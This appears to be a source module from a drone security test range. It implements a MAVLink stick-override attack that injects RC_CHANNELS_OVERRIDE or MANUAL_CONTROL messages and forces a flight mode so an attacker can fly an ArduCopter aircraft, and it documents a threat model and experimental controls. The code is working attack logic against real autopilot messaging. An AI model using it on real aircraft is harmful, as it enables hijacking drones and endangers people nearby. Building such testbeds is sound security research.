"""Stick override: RC_CHANNELS_OVERRIDE or MANUAL_CONTROL moves the pilot's sticks in a mode that obeys them."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass, field
from typing import Literal

from pydantic import Field

from skyrange.attack.contract import Attack, AttackContext, AttackPlugin, Controls, ThreatModel
from skyrange.attack.mavlink.injection import Injection, ModeKeeper, Sender, inject
from skyrange.attack.on_path import Repetition
from skyrange.codec.mavlink import Message
from skyrange.codec.mavlink import dialect as mav
from skyrange.codec.mavlink.flight_modes import COPTER_MODE_NUMBERS
from skyrange.contracts.frames.frame import Frame
from skyrange.contracts.links import Schedule
from skyrange.contracts.params import Number
from skyrange.core.time import NS_PER_S, Time, from_seconds

Sticks = tuple[float, float, float, float]
"""Forward, right and yaw in -1…1, throttle in 0…1, in the order forward, right, throttle, yaw."""


class StickOverride(Injection):
    """Positions of the sticks."""

    message: Literal["RC_CHANNELS_OVERRIDE", "MANUAL_CONTROL"] = Field(
        default="RC_CHANNELS_OVERRIDE", description="MAVLink message that carries the stick positions."
    )
    mode: Literal["none", "STABILIZE", "ALT_HOLD", "LOITER"] = Field(
        default="LOITER",
        description="Mode to change to, in which the sticks fly the aircraft; none leaves it. In AUTO, GUIDED and RTL "
        "only the yaw stick has an effect.",
    )
    forward: Number = Field(default=0.0, ge=-1, le=1, description="Pitch stick: 1 is full forward, -1 full back.")
    right: Number = Field(default=0.0, ge=-1, le=1, description="Roll stick: 1 is full right, -1 full left.")
    throttle: Number = Field(default=0.5, ge=0, le=1, description="Throttle stick: 0 is lowest, 0.5 holds the height.")
    yaw: Number = Field(default=0.0, ge=-1, le=1, description="Yaw stick: 1 is full right, -1 full left.")
    rate_hz: Number = Field(default=10.0, ge=0.5, le=50, description="Messages in a second.")


def stick_message(target: int, component: int, sticks: Sticks, manual: bool) -> Message:
    """The message for stick positions: ArduCopter's channels 1 to 4 are roll, pitch, throttle and yaw."""
    forward, right, throttle, yaw = sticks
    if manual:
        return mav.MAVLink_manual_control_message(
            target, round(1000 * forward), round(1000 * right), round(1000 * throttle), round(1000 * yaw), 0
        )
    # MAVLink: 65535 leaves channels 5 to 8 unchanged; RCMAP defaults of ArduCopter, pitch stick back is 2000 µs
    channels = (1500 + 500 * right, 1500 - 500 * forward, 1000 + 1000 * throttle, 1500 + 500 * yaw)
    return mav.MAVLink_rc_channels_override_message(
        target, component, *(round(us) for us in channels), 65535, 65535, 65535, 65535
    )


@dataclass(slots=True)
class StickSource:
    """A source of stick positions, and of the change of mode that makes them count."""

    sender: Sender
    schedule: Schedule
    sticks: Sticks
    manual: bool
    period_ns: Time
    mode: int | None
    clock: Repetition = field(init=False)
    keeper: ModeKeeper = field(init=False)

    def __post_init__(self) -> None:
        self.clock = Repetition(self.schedule, self.period_ns)
        self.keeper = ModeKeeper(-1 if self.mode is None else self.mode, NS_PER_S)

    @property
    def due(self) -> Time | None:
        """When the next message is due."""
        return self.clock.due

    def see(self, now: Time, frame: Frame) -> None:
        """Learn the mode."""
        self.sender.see(frame)
        self.keeper.see(now, frame)

    def make(self, now: Time) -> Sequence[tuple[Literal["fwd"], bytes]]:
        """The sticks, and the mode if it is another one."""
        if not self.clock.take(now):
            return []
        target = self.sender.target
        messages = [stick_message(target, self.sender.component, self.sticks, self.manual)]
        if self.mode is not None:
            messages += [order.message(target) for order in self.keeper.orders(now)]
        return [("fwd", self.sender.pack(message)) for message in messages]


def make(params: StickOverride, context: AttackContext) -> Attack:
    """The attack. Raises `InputError` for aircraft that are not in the scenario."""
    sticks = (params.forward, params.right, params.throttle, params.yaw)
    mode = None if params.mode == "none" else COPTER_MODE_NUMBERS[params.mode]
    period_ns = from_seconds(1.0 / params.rate_hz)
    manual = params.message == "MANUAL_CONTROL"
    return Attack(taps=inject(params, context, StickSource, context.schedule, sticks, manual, period_ns, mode))


RC_OVERRIDE = AttackPlugin(
    StickOverride,
    make,
    "Moves the pilot's sticks by messages, in a mode that obeys them.",
    technique="T0831",
    surface=("gcs", "log", "autopilot"),
    persists="acts",
    effect="the aircraft is flown by hand by the attacker, until its messages end",
    threat=ThreatModel(
        knowledge="system ids of the aircraft and of the station that it obeys (SYSID_MYGCS)",
        position="on the network of the control link, or on board",
        equipment="a computer with a MAVLink library, or a joystick",
        budget="rate_hz frames in a second",
    ),
    controls=Controls(
        load="the sham: the same frames, addressed to a system that is not there",
        content="the same frames with sticks in the middle, in the mode of the plan",
        placement="the same frames to another aircraft",
    ),
)
